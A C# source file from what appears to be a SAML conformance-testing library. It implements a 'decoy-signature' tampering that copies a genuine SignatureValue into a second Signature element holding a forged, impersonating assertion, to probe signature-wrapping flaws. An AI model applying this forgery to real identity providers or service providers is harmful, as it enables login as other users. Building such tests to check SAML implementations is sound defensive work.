using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A second Signature with the genuine SignatureValue, no SignedInfo and forged claims.</summary>
internal sealed class DecoySignature(TamperingArguments arguments) : Tampering
{
    private const string Ds = SamlNamespaces.XmlSignature;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "decoy-signature",
            "Adds a second Signature with the genuine SignatureValue, without SignedInfo, a forged assertion in its Object.",
            "The IdP's signature verifies over the untouched genuine element; the forged values are not covered.",
            [
                new("at", "The decoy in Extensions, as a child of the Response before or behind the assertion, or in the "
                    + "Object of the genuine Signature.",
                    ["extensions", "response-first", "response-last", "object"]),
                Impersonation.Parameter,
            ]),
        arguments => new DecoySignature(arguments));

    public override string Name => "decoy-signature";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var genuine = SignedPlaces.Outermost(work);
        var signature = Dom.Signature(genuine)!;
        if (genuine == work.Root && arguments.Text("at") != "object")
        {
            throw new TamperingException("whatever is added to a signed Response breaks it, but in the 'object'.");
        }

        var forged = Dom.Clone(SignedPlaces.Assertion(work));
        forged.SetAttribute("ID", work.Context.Ids.Next());
        if (Dom.Signature(forged) is { } inner)
        {
            forged.RemoveChild(inner);
        }

        Impersonation.Apply(forged, target, work);
        Put(Decoy(signature, forged), signature, work.Root);
        work.Claim(new GenuineStands(genuine.GetAttribute("ID")));
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private static XmlElement Decoy(XmlElement signature, XmlElement forged)
    {
        var decoy = signature.OwnerDocument.CreateElement(signature.Prefix, "Signature", Ds);
        Dom.SetNamespace(decoy, signature.Prefix, Ds);
        Dom.Append(decoy, signature.Prefix, "SignatureValue", Ds, XmlSigner.Descendant(signature, "SignatureValue").InnerText);
        Holders.Object(decoy).AppendChild(forged);
        return decoy;
    }

    private void Put(XmlElement decoy, XmlElement signature, XmlElement response)
    {
        switch (arguments.Text("at"))
        {
            case "object":
                Holders.Object(signature).AppendChild(decoy);
                break;
            case "response-first":
                Holders.PutSignature(decoy, response);
                break;
            case "response-last":
                response.AppendChild(decoy);
                break;
            default:
                Holders.Extensions(response).AppendChild(decoy);
                break;
        }
    }
}
